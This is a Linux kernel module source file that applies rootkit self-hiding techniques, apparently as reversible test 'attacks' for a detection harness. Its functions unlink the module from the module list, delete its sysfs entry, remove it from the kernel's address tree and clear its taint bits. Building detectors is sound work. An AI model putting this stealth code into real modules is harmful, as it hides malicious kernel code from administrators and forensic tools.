// SPDX-License-Identifier: GPL-2.0-only
/*
 * Hides this module, step by step as malware does it: out of the list of
 * modules, out of sysfs, out of the tree by which Linux finds the module of an
 * address; and clears the taint that its load left.
 *
 * A hidden module cannot be unloaded: undo comes first.
 */
#include <linux/kernel.h>
#include <linux/kobject.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/mutex.h>
#include <linux/panic.h>
#include <linux/rculist.h>
#include <linux/rcupdate.h>
#include <linux/string.h>
#include <linux/sysfs.h>

#include "attacks.h"

/* The number of attacks for which this module is not listed. */
static unsigned int unlisted;

/* Neither is exported. */
static struct mutex *modules_lock;
static struct list_head *modules;

static int find_modules(void)
{
	modules_lock = (struct mutex *)symbol("module_mutex");
	modules = (struct list_head *)symbol("modules");
	return modules_lock && modules ? 0 : -ENOENT;
}

int set_listed(bool listed)
{
	int error = find_modules();

	if (error)
		return error;
	mutex_lock(modules_lock);
	if (!listed && !unlisted++)
		list_del_rcu(&THIS_MODULE->list);
	else if (listed && !--unlisted)
		list_add_rcu(&THIS_MODULE->list, modules);
	mutex_unlock(modules_lock);
	/* A reader may be on the entry; it is put back by writing its links. */
	synchronize_rcu();
	return 0;
}

static bool is_unlisted(void)
{
	const struct list_head *at;
	bool found = false;

	mutex_lock(modules_lock);
	list_for_each(at, modules)
		found |= at == &THIS_MODULE->list;
	mutex_unlock(modules_lock);
	return !found;
}

/* hide-module: out of the list. */
static int list_begin(struct attack *attack, char *argument)
{
	int error = set_listed(false);

	if (!error)
		attack_mark(attack, THIS_MODULE->name);
	return error;
}

static bool list_present(struct attack *attack)
{
	return is_unlisted();
}

static void list_undo(struct attack *attack)
{
	set_listed(true);
}

struct attack hide_module = {
	.name = "hide-module",
	.begin = list_begin,
	.undo = list_undo,
	.present = list_present,
};

/*
 * The files of a module's folder in sysfs. Linux frees them when it unloads the
 * module, and warns about a group that it does not find.
 */
static int sysfs_add(void)
{
	/* Their groups begin so (kernel/module/sysfs.c). */
	struct attribute_group *sections = (void *)THIS_MODULE->sect_attrs;
	struct module_attribute *file = THIS_MODULE->modinfo_attrs;
	struct kobject *folder = &THIS_MODULE->mkobj.kobj;
	int error = kobject_add(folder, NULL, "%s", THIS_MODULE->name);

	for (; !error && file && file->attr.name; file++)
		error = sysfs_create_file(folder, &file->attr);
	if (!error && sections)
		error = sysfs_create_group(folder, sections);
	return error;
}

/* hide-module-sysfs: out of the list, and out of sysfs. */
static int sysfs_begin(struct attack *attack, char *argument)
{
	int error = set_listed(false);

	if (error)
		return error;
	kobject_del(&THIS_MODULE->mkobj.kobj);
	attack_mark(attack, THIS_MODULE->name);
	return 0;
}

static bool sysfs_present(struct attack *attack)
{
	return is_unlisted() && !THIS_MODULE->mkobj.kobj.state_in_sysfs;
}

static void sysfs_undo(struct attack *attack)
{
	WARN_ON(sysfs_add());
	set_listed(true);
}

struct attack hide_module_sysfs = {
	.name = "hide-module-sysfs",
	.begin = sysfs_begin,
	.undo = sysfs_undo,
	.present = sysfs_present,
};

/*
 * hide-module-all: also out of the tree of module addresses. What remains is
 * executable memory.
 */
static void (*tree_insert)(struct module *module);
static void (*tree_remove)(struct module *module);

static int all_begin(struct attack *attack, char *argument)
{
	int error;

	tree_insert = (void *)symbol("mod_tree_insert");
	tree_remove = (void *)symbol("mod_tree_remove");
	if (!tree_insert || !tree_remove || !symbol("is_module_address"))
		return -ENOENT;
	error = set_listed(false);
	if (error)
		return error;
	kobject_del(&THIS_MODULE->mkobj.kobj);
	mutex_lock(modules_lock);
	tree_remove(THIS_MODULE);
	mutex_unlock(modules_lock);
	/* A reader may be on the nodes. */
	synchronize_rcu();
	attack_mark(attack, THIS_MODULE->name);
	return 0;
}

static bool all_present(struct attack *attack)
{
	bool (*find)(unsigned long address) = (void *)symbol("is_module_address");

	return sysfs_present(attack) && !find((unsigned long)all_present);
}

static void all_undo(struct attack *attack)
{
	mutex_lock(modules_lock);
	tree_insert(THIS_MODULE);
	mutex_unlock(modules_lock);
	sysfs_undo(attack);
}

struct attack hide_module_all = {
	.name = "hide-module-all",
	.begin = all_begin,
	.undo = all_undo,
	.present = all_present,
};

/* clear-taint: Linux forgets what the load of this module said about it. */
static unsigned long *taint, cleared;

static int taint_begin(struct attack *attack, char *argument)
{
	taint = (unsigned long *)symbol("tainted_mask");
	if (!taint)
		return -ENOENT;
	cleared = *taint & THIS_MODULE->taints;
	if (!cleared)
		return -EALREADY;
	snprintf(attack->about, sizeof(attack->about), "bits %#lx of %#lx", cleared,
		 *taint);
	*taint &= ~cleared;
	attack_mark(attack, NULL);
	return 0;
}

static bool taint_present(struct attack *attack)
{
	return !(*taint & cleared);
}

static void taint_undo(struct attack *attack)
{
	*taint |= cleared;
}

struct attack clear_taint = {
	.name = "clear-taint",
	.begin = taint_begin,
	.undo = taint_undo,
	.present = taint_present,
};
